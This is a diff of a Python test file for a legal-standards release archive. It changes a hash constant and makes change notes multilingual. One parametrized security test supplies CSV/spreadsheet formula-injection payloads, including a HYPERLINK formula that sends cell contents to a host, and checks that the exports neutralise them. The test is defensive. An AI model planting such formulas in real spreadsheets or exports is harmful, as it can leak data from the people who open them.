@@ -37,7 +37,7 @@ from tests.support.client import InspectingClient
 
 FIXED_AT = datetime(2026, 9, 20, 4, 5, 6, 789, tzinfo=UTC)
 QUARTER = Quarter(2026, 4)
-FORMAT_1 = "d39fad07557de86af2a565e12a0bdcfb78c9020e64f38ab734a7a11ae55bfabc"
+FORMAT_1 = "d58ec2cef8df3122473a3dac7a111aa29a1eb14f579b06d713054c037c6219db"
 """SHA-256 of the archive that format 1 makes of the versions below."""
 
 SEEN: set[str] = set()
@@ -64,7 +64,7 @@ def a_sealed(
         legal_document=Names("Қаулы", "Постановление", "Resolution"),
         legal_number="1032",
         legal_on=date(2019, 12, 30),
-        change_note=note,
+        change_note=Names(note, note, note),
         lines=(ContentLine(1, item, 3),),
         substitutes=(ContentSubstitute("MILK", other, 2, 3, reason, QUARTER, None),),
     )
@@ -172,10 +172,10 @@ def test_eco_13_the_json_of_a_version_is_what_was_approved() -> None:
 @pytest.mark.parametrize("evil", ["=1+1", "+1", "-2+3", "@SUM(1)", "＝1+1", '=HYPERLINK("http://x?"&A1)'])
 def test_sec_32_bad_08_no_text_of_a_table_runs(evil: str) -> None:
     release = release_of([a_sealed(name=evil, note=evil)], quarter=QUARTER, fixed_at=FIXED_AT)
-    assert rows_of(release, "standards")[0]["change_note"] == f"'{evil}"
+    assert rows_of(release, "standards")[0]["change_note_ru"] == f"'{evil}"
     milk = next(row for row in rows_of(release, "items") if row["item"] == "MILK")
     assert milk["name_en"] == f"'{evil}"
-    assert json.loads(release.files["versions/F13-1.json"])["change_note"] == evil
+    assert json.loads(release.files["versions/F13-1.json"])["change_note"]["name_kk"] == evil
 
 
 def test_nothing_is_published_of_a_quarter_that_is_not_fixed(client: InspectingClient) -> None:
